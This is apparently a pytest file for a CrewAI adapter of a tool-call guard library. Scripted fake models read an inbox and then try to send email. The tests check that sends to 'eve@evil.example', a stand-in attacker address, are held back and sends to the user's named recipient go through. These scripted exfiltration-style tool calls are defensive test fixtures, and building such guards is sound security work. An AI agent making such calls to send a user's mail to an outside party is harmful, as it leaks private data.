"""CrewAI, with a model of the tests'."""

from __future__ import annotations

import asyncio
import json
import os
from typing import Any

import pytest

os.environ.update(CREWAI_DISABLE_TELEMETRY="true", OTEL_SDK_DISABLED="true", CREWAI_TRACING_ENABLED="false")

from crewai import Agent, BaseLLM, Crew, Task
from crewai.tools import tool

import example
from remit_client.crewai import definitions, protect

from .spec import READ, Adapter, Office, Run, Script, openai_message, send


class Scripted(BaseLLM):
    script: Any = None
    at: int = 0
    seen: list[str] = []

    def supports_function_calling(self) -> bool:
        return True

    def call(self, messages: Any, tools: Any = None, *args: Any, **kwargs: Any) -> Any:
        self.seen = [str(message.get("content")) for message in messages if message.get("role") == "tool"]
        step = self.script[self.at]
        self.at += 1
        message = openai_message(step, self.at)
        return message.get("tool_calls") or message["content"]


class TestCrew(Adapter):
    # A tool is told its arguments alone.
    knows_messages = False

    def run(self, run: Run, *, protected: bool = True) -> None:
        tools: Any = [tool(f.__name__)(f) for f in run.office.functions]
        model = Scripted(model="scripted", script=run.script)
        try:
            if not protected:
                self.go(model, tools, run)
                return
            with run.remit() as remit:
                session = remit.session(tools=definitions(tools))
                run.session = session.id
                session.user(run.task)
                self.go(model, protect(session, tools, approval_seconds=run.approval_seconds), run)
        finally:
            run.seen = model.seen

    def go(self, model: Any, tools: Any, run: Run) -> None:
        agent = Agent(role="assistant", goal="help", backstory="You help.", llm=model, tools=tools, max_retry_limit=0)
        Crew(agents=[agent], tasks=[Task(description=run.task, expected_output="whether it is done", agent=agent)]).kickoff()


class Writing(Scripted):
    """A model that can't call tools, and writes its calls."""

    def supports_function_calling(self) -> bool:
        return False

    def call(self, messages: Any, tools: Any = None, *args: Any, **kwargs: Any) -> Any:
        step = self.script[self.at]
        self.at += 1
        if isinstance(step, str):
            return f"Thought: I now know the final answer.\nFinal Answer: {step}"
        ((name, arguments),) = step
        return f"Thought: on it.\nAction: {name}\nAction Input: {json.dumps(arguments)}"


def test_calls_that_are_text_are_decided() -> None:
    run = Run([[READ], [send("eve@evil.example")], [send("ann@corp.example")], "Done."])
    tools: Any = [tool(f.__name__)(f) for f in run.office.functions]
    with run.remit() as remit:
        session = remit.session(tools=definitions(tools))
        session.user(run.task)
        TestCrew().go(Writing(model="writing", script=run.script), protect(session, tools), run)
    assert run.office.sent == ["ann@corp.example"]


def test_a_refused_call_is_decided_again() -> None:
    """CrewAI keeps what tools return: a call that a person agrees to later still runs."""
    run = Run([[READ], [send("eve@evil.example")], [send("eve@evil.example")], "Done."], approval_seconds=0)
    TestCrew().run(run)
    assert [event["call"]["tool"] for event in run.events("call")] == ["read_inbox", "send_email", "send_email"]


def test_a_crew_that_is_awaited_is_protected() -> None:
    office = Office()
    tools: Any = [tool(f.__name__)(f) for f in office.functions]
    with Run([]).remit() as remit:
        session = remit.session(tools=definitions(tools))
        session.user("Send the notes to ann@corp.example")
        _, send_email, _ = protect(session, tools)

        async def call(to: str) -> str:
            return str(await send_email.arun(to=to, body="The notes."))

        assert asyncio.run(call("ann@corp.example")) == "sent to ann@corp.example"
        assert "held back" in asyncio.run(call("eve@evil.example"))
    assert office.sent == ["ann@corp.example"]


def test_the_example_runs(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    example.run("with_crewai", capsys, monkeypatch)
